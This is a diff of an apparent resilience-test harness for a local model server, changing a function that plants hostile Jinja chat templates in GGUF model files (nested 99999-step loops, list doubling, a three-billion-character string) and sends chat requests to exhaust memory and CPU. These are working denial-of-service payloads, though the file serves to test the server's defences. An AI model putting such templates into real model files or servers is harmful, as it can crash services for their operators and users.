@@ -134,20 +134,21 @@ def compiling(victim: Victim) -> None:
 
 
 def templates(victim: Victim) -> None:
-    """Models whose chat template counts for ever, multiplies a text, or doubles a list."""
+    """Models whose chat template counts for ever, doubles a list, or multiplies a text."""
     loops = "".join(f"{{% for {name} in range(99999) %}}" for name in "abc") + "{% endfor %}" * 3
     doubling = "{% set n = namespace(x=[1]) %}{% for a in range(40) %}{% set n.x = n.x + n.x %}{% endfor %}{{ n.x }}"
-    sources = {"loops": loops, "text": "{{ 'a' * 3000000000 }}", "doubling": doubling}
+    loops = f"{{% if messages[0].content == 'loop' %}}{loops}{{% endif %}}{doubling}"
     weights = victim.store.resolve("tiny").path
     original = GGUF.open(weights).metadata["tokenizer.chat_template"].encode()
-    for name, source in sources.items():
+    for name, source in {"endless": loops, "text": "{{ 'a' * 3000000000 }}"}.items():
         file = victim.store.root.parent / f"{name}.gguf"
         file.write_bytes(weights.read_bytes().replace(original, source.encode().ljust(len(original))))
         victim.store.create(name, gguf=file)
         file.unlink()
-        victim.attack(
-            2, lambda _, name=name: victim.ask("POST", "/api/chat", {"model": name, "messages": HELLO}, timeout=5)
-        )
+        for content in ("loop", "double"):
+            body = {"model": name, "messages": [{"role": "user", "content": content}]}
+            victim.ask("POST", "/api/generate", {"model": name})  # is loaded once, before the attack
+            victim.attack(1, lambda _, body=body: victim.ask("POST", "/api/chat", body, timeout=5))
 
 
 def manifests(victim: Victim) -> None:
@@ -326,7 +327,7 @@ def during(victim: Victim, seconds: float, tokens: int, has_neighbour: bool) -> 
 def settled(victim: Victim, before: int) -> int:
     """Return the memory when it is as before, or after a while; the model is there again."""
     until = time.perf_counter() + SETTLING
-    for name in ("loops", "text", "doubling"):
+    for name in ("endless", "text"):
         with suppress(OSError, HTTPException):
             victim.ask("POST", "/api/generate", {"model": name, "keep_alive": 0})
     victim.stream(8)
